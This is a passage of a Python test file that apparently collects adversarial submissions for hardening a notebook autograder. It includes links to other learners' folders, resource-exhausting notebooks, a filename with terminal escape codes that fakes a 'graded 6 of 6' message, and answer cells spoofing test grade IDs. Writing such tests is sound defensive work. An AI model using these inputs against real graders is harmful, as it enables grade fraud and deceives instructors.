    os.symlink(path.parent.parent / "honest-0" / EXERCISE, path)


def _nested(notebook):
    value = 1
    for _ in range(500):
        value = [value]
    return {**notebook, "metadata": {"x": value}}


def _many_cells(notebook):
    cell = {"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": []}
    return {**notebook, "cells": notebook["cells"] + [cell] * 100_000}


_aimed("hard_link", "the notebook is another learner's by a hard link", folder=_hard_link)
_aimed("linked_folder", "the folder is another learner's", folder=_linked_folder)
_aimed("named_pipe", "the notebook is a pipe that nobody writes to", folder=lambda path, _: os.mkfifo(path / f"{EXERCISE}.ipynb"))
_aimed("notebook_folder", "the notebook is a folder", folder=lambda path, _: (path / f"{EXERCISE}.ipynb").mkdir())
_aimed("no_folder", "there is no folder", folder=lambda path, _: path.rmdir())
_aimed("utf16", "another encoding", folder=lambda path, nb: (path / f"{EXERCISE}.ipynb").write_bytes(json.dumps(nb).encode("utf-16")))
_aimed("huge_notebook", "a notebook of 60 MB", edit=lambda nb: {**nb, "metadata": {"x": "y" * 60_000_000}})
_aimed("nested_notebook", "a notebook nested 500 deep", edit=_nested)
_aimed("very_nested_notebook", "a notebook nested 100,000 deep", folder=_file("[" * 100_000 + "]" * 100_000))
_aimed("many_cells", "100,000 cells", edit=_many_cells)
_aimed("nan_notebook", "NaN and doubled keys", folder=_file('{"nbformat": NaN, "nbformat": 4, "cells": [NaN, 3, "x", {"cell_type": "code", "source": [1]}], "metadata": {}}'))
_aimed("cells_of_nothing", "cells that are no cells", edit=_changed(cells=[None, [], "x", 4, {"cell_type": ["code"]}, {}]))
_aimed("control_characters", "names that write on the instructor's terminal",
       folder=lambda path, nb: (path / "\x1b[2J\x1b[31mgraded 6 of 6\n.ipynb").write_text(json.dumps(nb)))
_aimed("two_notebooks", "several notebooks, none with the right name",
       folder=lambda path, nb: [(path / f"{n}.ipynb").write_text(json.dumps(nb)) for n in "ab"])
_aimed("far_future", "a time that overflows", folder=_beside("timestamp.txt", "9" * 400 + "-01-01 00:00:00 UTC"))
_aimed("answer_as_test", "an answer cell with a test's name",
       edit=lambda nb: [c["metadata"]["nbgrader"].update(grade_id=t["metadata"]["nbgrader"]["grade_id"]) for c, t in zip(answer_cells(nb), test_cells(nb), strict=True)] and nb)
_aimed("unhashable_names", "names that are lists", edit=lambda nb: [c["metadata"].update(nbgrader={"grade_id": ["x"], "solution": True}) for c in answer_cells(nb)] and nb)

ATTACKS = CLASSIC + AIMED
